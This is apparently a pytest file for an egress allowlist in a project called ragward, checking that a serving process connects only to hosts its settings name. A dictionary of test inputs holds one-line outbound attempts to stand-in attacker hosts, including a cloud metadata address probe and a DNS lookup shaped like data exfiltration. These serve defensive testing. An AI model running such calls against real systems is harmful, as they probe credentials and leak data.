"""A serving process connects to what its settings name, and to nothing else."""

from __future__ import annotations

import socket
import subprocess
import sys

import pytest

from ragward.adapters.egress import Egress
from ragward.domain.errors import UnavailableError
from ragward.settings import Settings, outgoing_hosts

ATTEMPTS = {
    "a name": "import socket; socket.create_connection(('evil.example', 80), 1)",
    "an address": "import socket; socket.create_connection(('203.0.113.9', 80), 1)",
    "an IPv6 address": "import socket; socket.create_connection(('2001:db8::1', 80), 1)",
    "metadata of a cloud": "import socket; socket.create_connection(('169.254.169.254', 80), 1)",
    "a datagram": "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'x', ('203.0.113.9', 53))",
    "httpx": "import httpx; httpx.get('https://evil.example/')",
    "httpx by address": "import httpx; httpx.get('http://203.0.113.9/', timeout=1)",
    "urllib": "import urllib.request; urllib.request.urlopen('http://evil.example/')",
    "asyncio": "import asyncio; asyncio.run(asyncio.open_connection('203.0.113.9', 80))",
    "a look-up": "import socket; socket.gethostbyname('secret-data.evil.example')",
}
PROGRAM = """
import threading
from ragward.adapters.egress import Egress
Egress(["allowed.example", "192.0.2.7"]).install()
def attempt():
    try:
        exec({attempt!r})
    except BaseException as error:
        chain = [error]
        while chain[-1].__cause__ or chain[-1].__context__:
            chain.append(chain[-1].__cause__ or chain[-1].__context__)
        print(any(type(e).__name__ == "EgressRefusedError" for e in chain))
thread = threading.Thread(target=attempt); thread.start(); thread.join()
"""


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_a_connection_elsewhere_is_refused(attempt):
    program = PROGRAM.format(attempt=attempt)
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, timeout=30, check=True
    )
    assert done.stdout.strip() == "True", done.stderr


def test_this_machine_and_unix_sockets_are_reached(tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        program = (
            "import socket\n"
            "from ragward.adapters.egress import Egress\n"
            "Egress([]).install()\n"
            f"socket.create_connection(('127.0.0.1', {port}), 2).close()\n"
            f"socket.create_connection(('localhost', {port}), 2).close()\n"
            "a, b = socket.socketpair(); a.send(b'x'); print(b.recv(1))\n"
        )
        done = subprocess.run(
            [sys.executable, "-c", program], capture_output=True, text=True, timeout=30, check=True
        )
    assert done.stdout.strip() == "b'x'"


@pytest.mark.parametrize(
    ("host", "admitted"),
    [
        ("allowed.example", True),
        ("ALLOWED.example.", True),
        ("sub.allowed.example", False),
        ("allowed.example.evil.example", False),
        ("evil.example", False),
        ("localhost", True),
        ("127.0.0.1", True),
        ("192.0.2.7", False),
        ("", True),
        (None, True),
    ],
)
def test_names_are_admitted_whole(host, admitted):
    assert Egress(["allowed.example"]).admits_name(host) is admitted


def test_addresses_are_admitted_that_are_named_or_that_a_named_host_has():
    egress = Egress(["192.0.2.7", "localhost"])
    assert egress.admits_address("192.0.2.7")
    assert egress.admits_address("127.0.0.1")
    assert egress.admits_address("::1")
    assert not egress.admits_address("192.0.2.8")
    assert not egress.admits_address("169.254.169.254")


def test_the_hosts_come_from_the_settings(tmp_path):
    settings = Settings.load(
        data_dir=tmp_path / "data",
        keyring=tmp_path / "keys" / "k",
        database_url="postgresql+psycopg://u:p@db.example/x",
        qdrant_url="https://qdrant.example:6333",
        issuers=[
            {"issuer": "https://idp.example", "tenant": "a", "jwks": "https://keys.example/jwks"},
            {"issuer": "https://other.example", "tenant": "b", "jwks": "/etc/keys.json"},
        ],
        egress_hosts=["kms.example"],
    )
    named = {"db.example", "qdrant.example", "keys.example", "kms.example"}
    assert outgoing_hosts(settings) == named


@pytest.mark.parametrize(
    ("uri", "hosts"),
    [
        ("vault:https://vault.example:8200?mount=transit&token=file:/t", {"vault.example"}),
        ("awskms:alias/x?region=eu-west-1", {"kms.eu-west-1.amazonaws.com"}),
        ("awskms:alias/x?region=r&endpoint=https://kms.internal.example", {"kms.internal.example"}),
        ("awskms:alias/x", set()),
        ("file:", set()),
        ("broker:/run/ragward/keys.sock", set()),
    ],
)
def test_a_provider_of_keys_is_a_host_the_settings_name(tmp_path, uri, hosts):
    settings = Settings.load(
        data_dir=tmp_path / "data", keyring=tmp_path / "keys" / "k", keys_for={"RESTRICTED": uri}
    )
    assert outgoing_hosts(settings) == hosts


def test_a_refusal_is_an_error_of_ours_and_of_the_systems():
    from ragward.adapters.egress import EgressRefusedError

    error = EgressRefusedError(code="unavailable.egress")
    assert isinstance(error, UnavailableError)
    assert isinstance(error, OSError)
    assert error.code == "unavailable.egress"


def test_model_libraries_stay_offline_once_anything_is_open(tmp_path, monkeypatch):
    import os

    from tests.installation import initialised, opened

    monkeypatch.setenv("HF_HUB_OFFLINE", "0")
    with opened(initialised(tmp_path)):
        assert os.environ["HF_HUB_OFFLINE"] == os.environ["TRANSFORMERS_OFFLINE"] == "1"
